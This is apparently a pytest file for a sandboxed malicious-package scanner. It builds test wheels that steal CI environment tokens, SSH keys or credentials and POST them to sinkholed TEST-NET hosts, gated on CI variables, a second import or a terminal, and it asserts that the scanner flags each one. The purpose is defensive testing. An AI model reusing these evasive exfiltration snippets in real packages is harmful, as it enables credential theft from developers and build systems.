"""Session 9's hostile read, end to end: defanged wheels that did what the tool exists
to catch and were vetted CLEAN on main under the default profile. Destinations are
TEST-NET addresses the sinkhole answers inside the sandbox; nothing is deleted."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from sandbox.models import Phase, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel

pytestmark = [pytest.mark.usefixtures("sandbox_image", "no_leaks"), pytest.mark.slow]


def _post(host: str, port: int) -> str:
    """Source (indented for the fixtures' ``if`` bodies, before their dedent) that POSTs ``data`` to TEST-NET
    host:port with short timeouts."""
    return textwrap.indent(
        textwrap.dedent(
            f"""\
            s = socket.socket()
            s.settimeout(3)
            try:
                s.connect(({host!r}, {port}))
                s.sendall(b"POST /c HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
                          + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
                s.recv(100)
            except OSError:
                pass
            finally:
                s.close()"""
        ),
        " " * 12,  # the fixtures' raw templates: dedent then leaves it in the if body
    ).lstrip()


def test_a_ci_gate_on_a_runner_variable_through_a_copy_of_the_environment_wakes(tmp_path: Path) -> None:
    """Gated on a variable the ci pass sets but the trigger did not list (RUNNER_OS,
    GITHUB_WORKSPACE …), the job's whole environment taken from ``dict(os.environ)``
    (no computed lookup in os.environ itself) and POSTed. On main no ci pass ran: clean."""
    r = Randomised()
    host, port, name = r.address(), r.port(), r.name("runner")
    var, value = r.rng.choice([("RUNNER_OS", "Linux"), ("RUNNER_ENVIRONMENT", "github-hosted")])
    src = textwrap.dedent(
        f"""\
        import os, socket

        _env = dict(os.environ)
        if os.environ.get({var!r}) == {value!r}:
            data = repr(sorted(_env.items())).encode()
            {_post(host, port)}
        """
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl))
    assert report is not None
    ci = [p for p in report.phases if p.pass_name == "ci"]
    assert ci and var in ci[0].pass_note, [(p.phase, p.pass_name, p.pass_note) for p in report.phases]
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
    assert report.network is not None
    sent = {x.canary for x in report.network.exfiltration}
    assert {"ACTIONS_RUNTIME_TOKEN", "GITHUB_TOKEN"} <= sent, sent


def test_a_payload_that_waits_for_a_second_import_is_caught(tmp_path: Path) -> None:
    """The first import only leaves a marker under the allowed cache; the second one (a
    user's next session) reads the SSH key and POSTs it. A library with no command was
    imported once on main (exercise had nothing to run): clean."""
    r = Randomised()
    host, port, name = r.address(), r.port(), r.name("warm")
    marker = f"~/.cache/.{r.name('s')}"
    src = textwrap.dedent(
        f"""\
        import os, socket

        _m = os.path.expanduser({marker!r})
        if os.path.exists(_m):
            try:
                data = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
            except OSError:
                data = b""
            {_post(host, port)}
        else:
            os.makedirs(os.path.dirname(_m), exist_ok=True)
            open(_m, "w").close()
        """
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl))
    assert report is not None
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
    # the default pass's (the secrets and control passes, run because it reached out,
    # are later sessions too: their import sends the key as well)
    ps010 = [f for f in report.findings if f.rule_id == "PS010" and f.pass_name == "default"]
    assert ps010 and ps010[0].phase is Phase.EXERCISE, [
        (f.rule_id, f.phase, f.pass_name) for f in report.findings
    ]
    ex = next(p for p in report.phases if p.phase is Phase.EXERCISE and p.pass_name == "default")
    assert any("imported again" in p for p in ex.problems), ex.problems


def test_a_payload_that_runs_only_on_a_terminal_is_caught(tmp_path: Path) -> None:
    """At import, only where ``sys.stdout``/``sys.stdin`` is a terminal (a developer's
    session; every step's streams were pipes): reads a credential and POSTs it. Clean on
    main. The exercise phase's second session of a library runs on a pty."""
    r = Randomised()
    host, port, name, cred = r.address(), r.port(), r.name("tty"), r.credential()
    stream = r.rng.choice(["sys.stdout", "sys.stdin", "sys.stderr"])
    src = textwrap.dedent(
        f"""\
        import os, socket, sys

        if {stream}.isatty():
            try:
                data = open(os.path.expanduser("~/{cred}"), "rb").read()
            except OSError:
                data = b""
            {_post(host, port)}
        """
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl))
    assert report is not None
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
    ps002 = [f for f in report.findings if f.rule_id == "PS002" and f.phase is Phase.EXERCISE]
    assert ps002 and any(e.destination == f"{host}:{port}" for e in ps002[0].evidence), report.findings
